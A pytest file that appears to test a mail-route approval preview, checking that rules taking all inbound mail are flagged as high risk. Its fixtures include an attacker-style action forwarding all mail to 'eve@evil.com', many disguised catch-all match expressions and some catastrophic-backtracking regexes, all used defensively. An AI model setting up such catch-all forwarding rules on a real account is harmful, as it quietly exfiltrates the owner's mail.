"""Attack 137: a rule for inbound mail that takes more than it seems to."""

from __future__ import annotations

from typing import Any

import pytest

from maton_mailgun.approval.preview.route_filters import takes_everything
from maton_mailgun.sandbox.account.seed import ROUTE_ID

from .bench import Desk
from .telling import previewed

pytestmark = pytest.mark.anyio

ALL = "This rule takes all inbound mail of the account, not only some of it."
FORWARD = 'forward("eve@evil.com")'
PATTERNS = ["", "^", "@", ".", r"\S+", ".{1,}", ".*?", "[^@]+@.+", "(?i).*", r"[\s\S]*", "a|.*", "ann@mg.example.com|"]
EVERYTHING = [
    *(f'match_recipient("{pattern}")' for pattern in PATTERNS),
    "catch_all()",
    "match_recipient('.*')",
    'match_header("from", "")',
    'match_header("to", "@")',
    'match_header("subject", ".*")',
    'not match_recipient("zzz")',
    'match_recipient("x@mg.example.com") or catch_all()',
    '(match_recipient(".*") and not match_header("subject", "spam"))',
]
SOME = [
    'match_recipient(".*@mg.example.com")',
    'match_recipient("^support@")',
    'match_header("subject", "invoice")',
    'match_recipient(".*") and match_header("from", "boss@example.com")',
    'not match_recipient(".*")',
    'match_recipient("(.+)\\+(.+)@mg.example.com")',
]
UNREAD = [
    "anything()",
    'match_recipient("([ab]+)+c")',
    f'match_recipient("{"(|)" * 40}c")',
    'match_recipient("(")',
    f'match_recipient("{"(a+)+" * 4}b")',
    'match_recipient("a"',
    "",
]


@pytest.mark.parametrize("expression", EVERYTHING)
async def test_attack_137_a_rule_that_takes_everything_is_told_however_it_is_written(
    desk: Desk, expression: str
) -> None:
    preview = await previewed(desk, "create_route", {"expression": expression, "actions": [FORWARD], "priority": 5})
    assert ALL in preview["warnings"]
    assert preview["risk"] == "high"


@pytest.mark.parametrize(("expressions", "told"), [(EVERYTHING, True), (SOME, False), (UNREAD, None)])
def test_attack_137_what_a_rule_takes_is_found_by_trying(expressions: list[str], told: bool | None) -> None:
    assert {one: takes_everything(one) for one in expressions if one or told is not None} == {
        one: told for one in expressions if one or told is not None
    }


def _route(desk: Desk, **changes: Any) -> None:
    route = desk.sandbox.account.routes.get(ROUTE_ID)
    assert route is not None
    route.update(changes)


async def test_attack_137_new_actions_of_a_rule_for_all_mail_are_told_as_that(desk: Desk) -> None:
    _route(desk, expression="catch_all()", actions=["store()"])
    preview = await previewed(desk, "update_route", {"route_id": ROUTE_ID, "actions": [FORWARD], "priority": 0})
    assert ALL in preview["warnings"]
    assert preview["risk"] == "high"


async def test_attack_137_a_wider_expression_is_told_with_where_the_mail_goes(desk: Desk) -> None:
    _route(desk, expression='match_recipient("ann@mg.example.com")', actions=[FORWARD])
    preview = await previewed(desk, "update_route", {"route_id": ROUTE_ID, "expression": 'match_recipient("^")'})
    assert "Mail that the new expression takes goes to eve@evil.com." in preview["warnings"]
    assert ALL in preview["warnings"]
    assert preview["risk"] == "high"
    (section,) = [one for one in preview["sections"] if one["heading"] == "Where data goes"]
    assert {"label": "Forwards to (as now)", "value": "eve@evil.com", "flags": []} in section["rows"]


async def test_attack_137_a_rule_that_stops_before_others_says_so(desk: Desk) -> None:
    _route(desk, priority=1)
    arguments = {"expression": 'match_recipient(".*@mg.example.com")', "actions": ["stop()"], "priority": 0}
    preview = await previewed(desk, "create_route", arguments)
    line = "It stops there: 1 rule behind it no longer gets the mail that it takes."
    assert line in preview["warnings"]
    behind = await previewed(desk, "create_route", {**arguments, "priority": 2})
    assert not any(line.startswith("It stops there") for line in behind["warnings"])
